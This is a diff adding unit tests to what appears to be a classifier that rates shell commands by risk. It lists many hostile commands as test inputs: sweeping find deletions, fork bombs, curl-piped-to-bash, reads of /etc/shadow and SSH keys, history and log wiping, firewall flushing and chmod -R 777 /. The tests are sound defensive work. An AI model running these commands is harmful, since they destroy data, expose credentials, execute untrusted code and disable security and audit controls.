@@ -76,6 +76,72 @@ TEST(Risk, TracesAndTheMachine) {
   each_is({"kill -9 -1"}, "shutdown critical");
 }
 
+TEST(Risk, FindDeletesWhatNoTestBeforeItLetsBe) {
+  each_is({"find ~ -name '*' -delete", "find ~ ! -name keep -delete", "find / -not -user me -delete",
+           "find ~ -delete -name '*.tmp'", "find ~ -name x -o -delete",
+           "find ~ \\( -name a -o -type f \\) -delete", "find ~ -type f -exec rm -f {} +",
+           "find ~ -type f | xargs rm", "find / -print0 | xargs -0 rm -f", "find ~ -user me -delete",
+           "find / -name x -exec echo {} \\; -o -delete"},
+          "deletion critical");
+  each_is({"find ./cache -delete", "find ~/old -type f -delete"}, "deletion high");
+}
+
+TEST(Risk, FindThatIsNarrowIsNone) {
+  for (const char* command :
+       {"find ~ -name '*.tmp' -delete", "find / -mtime +7 -delete",
+        "find ~ \\( -name a -o -name b \\) -delete", "find ~ -name x \\( -type f -o -type d \\) -delete",
+        "find ~ -type f -name '*.o' -exec rm {} +", "find ~ -name '*.tmp' | xargs rm",
+        "find ~ -empty -type d -delete", "find ~ ! -name x -name y -delete",
+        "find ~ -type f -exec ls -l {} +", "find / -delet", "find ~ ! \\( ! -name '*.o' \\) -name b -delete"})
+    EXPECT_THAT(harms(command), IsEmpty()) << command;
+}
+
+TEST(Risk, WhatCannotBeHadBack) {
+  each_is({"crontab -r", "crontab -u ann -r", "git clean -fdx", "git clean --force", "git -C src clean -d -f",
+           "git push --force", "git push -f origin main", "git push origin +main", "git push --mirror up",
+           "shred -u plans.txt"},
+          "deletion high");
+  each_is({"userdel -r bob", "sudo userdel --remove bob", "deluser --remove-home bob"}, "accounts high");
+}
+
+TEST(Risk, ProgramsThatForkOrTakeMemoryWithoutEnd) {
+  each_is({"perl -e 'fork while fork'", "python3 -c 'import os\nwhile True: os.fork()'"},
+          "exhaustion critical");
+  each_is({"tail /dev/zero", "sort /dev/zero"}, "exhaustion high");
+}
+
+TEST(Risk, WhatWasFetchedIsRun) {
+  each_is(
+      {"curl -o x.sh u/y && sh x.sh", "curl -O https://h/a/x.sh; bash ./x.sh",
+       "wget https://h/x.sh && source x.sh", "wget -O /tmp/i u; chmod +x /tmp/i; /tmp/i",
+       "curl u > i && sh i", "curl u | bash -s -- --yes", "curl u | sudo -E bash -", "sh <<< \"$(curl u)\"",
+       "bash < <(wget -qO- u)", "curl u | fish", "curl -s u | gunzip | sh", "curl u | php"},
+      "foreign_code critical");
+}
+
+TEST(Risk, SecretsAreReadInOtherWays) {
+  each_is({"cat < /etc/shadow", "x=$(< ~/.ssh/id_ed25519)", "cat ~/.ssh/id_work", "dd if=/etc/shadow of=x",
+           "getent shadow", "cat /home/*/.ssh/id_rsa", "bat ~/.aws/credentials"},
+          "credentials high");
+}
+
+TEST(Risk, HistoryIsKeptNoMore) {
+  each_is({"unset HISTFILE", "HISTFILE=/dev/null", "export HISTSIZE=0", "set +o history", "history -cw",
+           "ln -sf /dev/null ~/.bash_history", "cat /dev/null > ~/.bash_history",
+           "journalctl --vacuum-time=1s", "dmesg -C"},
+          "traces high");
+}
+
+TEST(Risk, GuardsAndDoorsAreShut) {
+  each_is({"iptables -t nat -F", "ip6tables --flush", "iptables -P INPUT ACCEPT", "ufw --force reset",
+           "service ufw stop", "systemctl disable --now nftables.service", "setenforce Permissive"},
+          "guards high");
+  each_is({"systemctl stop sshd", "sudo systemctl disable --now ssh.service", "systemctl mask ssh.socket",
+           "service ssh stop"},
+          "shutdown high");
+  each_is({"chmod -R 777 /", "sudo chmod -R a+rwx /usr"}, "permissions critical");
+}
+
 TEST(Risk, LookAlikesAreNone) {
   for (const char* command : {"rm f",
                               "dd if=/dev/zero of=file count=1",
@@ -105,6 +171,51 @@ TEST(Risk, LookAlikesAreNone) {
                               "chmod 1777 /srv/drop/x",
                               "echo aGk= | base64 -d",
                               "mv a b",
+                              "crontab -l",
+                              "crontab jobs",
+                              "git clean -n",
+                              "git clean -ndx",
+                              "git push",
+                              "git push --force-with-lease",
+                              "git push -u origin main",
+                              "git commit -m 'clean -f'",
+                              "userdel bob",
+                              "shred --help",
+                              "perl -e 'print 1 while 0'",
+                              "tail /dev/null",
+                              "curl -o x.sh u && less x.sh",
+                              "curl -O https://h/x.sh; sh other.sh",
+                              "wget u/data.json && ./build.sh",
+                              "curl u > page; sh i",
+                              "sh <<< 'echo hi'",
+                              "ls -l /etc/shadow",
+                              "stat ~/.ssh/id_rsa",
+                              "chmod 600 ~/.ssh/id_rsa",
+                              "ssh-keygen -lf ~/.ssh/id_rsa",
+                              "cat ~/.ssh/config",
+                              "cat ~/.ssh/id_work.pub",
+                              "cat ~/.aws/config",
+                              "getent passwd",
+                              "cat < /etc/hosts",
+                              "history 20",
+                              "history | tail",
+                              "echo $HISTFILE",
+                              "HISTSIZE=5000",
+                              "export HISTFILE=~/.history",
+                              "set -o history",
+                              "ln -s /dev/null x",
+                              "journalctl -u ssh",
+                              "dmesg -T",
+                              "iptables -L -n -v",
+                              "iptables -P FORWARD DROP",
+                              "ufw status",
+                              "ufw allow 22",
+                              "systemctl restart sshd",
+                              "systemctl status sshd",
+                              "systemctl is-active fail2ban",
+                              "systemctl enable nftables",
+                              "service ssh restart",
+                              "getenforce",
                               "find . -name '*.o' -delete",
                               "cat x | sh build.sh"})
     EXPECT_THAT(harms(command), IsEmpty()) << command;
